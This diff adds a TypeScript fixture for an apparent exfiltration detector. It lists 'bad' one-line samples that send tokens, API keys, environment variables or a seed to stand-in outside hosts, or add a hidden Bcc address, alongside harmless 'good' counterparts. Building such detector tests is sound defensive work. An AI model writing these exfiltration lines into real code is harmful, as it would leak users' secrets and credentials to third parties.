@@ -1,0 +1,42 @@
+import type { DetectorExamples } from '../detector.ts';
+
+export const examples: DetectorExamples = {
+  bad: [
+    {
+      code: "fetch('https://api.mail.example/send', { method: 'POST', body: JSON.stringify({ Token: t }) });",
+      why: 'the body of a request',
+      attributes: { field: 'token', sink: 'api.mail.example' },
+    },
+    {
+      code: "client.sendEmail({ Bcc: 'copy@collect.invalid' });",
+      why: 'a mail client; constants that are addresses are told',
+      attributes: { field: 'bcc', sink: 'sendEmail', constant: 'copy@collect.invalid' },
+    },
+    {
+      code: 'const p = {}; p.apiKey = key; transporter.sendMail(p);',
+      why: 'built step by step',
+      attributes: { field: 'apikey', sink: 'sendMail' },
+    },
+    {
+      code: "import axios from 'axios'; axios.post('https://c.example/x', { env });",
+      why: 'the data of a client',
+      attributes: { field: 'env', sink: 'c.example' },
+    },
+    {
+      code: "this.request('/mail', { method: 'POST', body: JSON.stringify({ note: n }) });",
+      why: 'options for a wrapper',
+      attributes: { field: 'note', sink: 'request' },
+    },
+    {
+      code: "import https from 'https'; const r = https.request(o); r.write(JSON.stringify({ seed }));",
+      why: 'written to a request',
+      attributes: { field: 'seed', sink: 'request' },
+    },
+  ],
+  good: [
+    { code: 'log(JSON.stringify({ a: 1 }));', why: 'nothing leaves' },
+    { code: "fetch('https://c.example', { method: 'POST', headers: h });", why: 'no body' },
+    { code: 'response.send({ ok: true });', why: 'an answer' },
+    { code: 'orm.create({ name: n });', why: 'a row' },
+  ],
+};
